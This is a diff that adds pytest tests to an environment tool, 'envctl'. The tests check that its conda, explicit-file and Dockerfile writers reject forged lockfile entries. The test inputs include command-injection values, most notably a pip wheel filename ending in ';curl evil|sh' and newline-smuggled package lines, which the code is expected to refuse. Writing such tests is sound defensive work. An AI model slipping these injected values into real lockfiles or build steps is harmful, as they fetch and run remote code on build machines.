@@ -219,3 +219,33 @@ def test_requirements_lines_refuse_what_is_not_a_pin(fields):
         requirements_txt(lock)
     assert requirements_txt(LockedEnv(name="x", platform="linux-64", inputs_hash="", lock_hash="", conda=[],
                                       pip=[_pkg()])).startswith("mpmath==1.3.0 --hash=sha256:")
+
+
+def test_export_and_dockerfile_writers_refuse_what_is_not_a_package():
+    """environment.yml, explicit files and the Dockerfile's RUN lines check again what they write."""
+    from envctl.lockgrammar import LockfileError, conda_pin, explicit_line
+
+    assert conda_pin("zlibx", "1.3.0", "h0_0") == "zlibx=1.3.0=h0_0"
+    assert explicit_line(CONDA["url"], "0" * 32) == CONDA["url"] + "#" + "0" * 32
+    with pytest.raises(LockfileError, match="refusing to write the conda package"):
+        conda_pin("zlibx", "1.3.0", "h0_0\n- evil")
+    with pytest.raises(LockfileError, match="refusing to write an explicit line"):
+        explicit_line("https://x.example/linux-64/zlibx-1.3.0-h0_0.conda\nhttps://evil/x.conda", "0" * 32)
+    with pytest.raises(LockfileError, match="md5"):
+        explicit_line(CONDA["url"], "0" * 31)
+
+
+def test_the_dockerfile_refuses_a_pip_wheel_that_is_no_file_name(project):
+    from envctl.build import plan_build
+    from envctl.catalog import Project
+    from envctl.lock import load_lock
+    from envctl.lockgrammar import LockfileError
+
+    p = Project(project)
+    spec = p.resolve("pytorch-2.13-cpu")
+    lock = load_lock(p.lock_path(spec.name))
+    plan_build(spec, lock, project=p)  # the honest lock plans
+    pip = [_pkg(name="pip", version="26.2.1", filename="pip-26.2.1-py3-none-any.whl;curl evil|sh")]
+    forged = type(lock)(**{**lock.__dict__, "pip": [q for q in lock.pip if q.name != "pip"] + pip})
+    with pytest.raises(LockfileError, match="refusing to run pip from"):
+        plan_build(spec, forged, project=p)
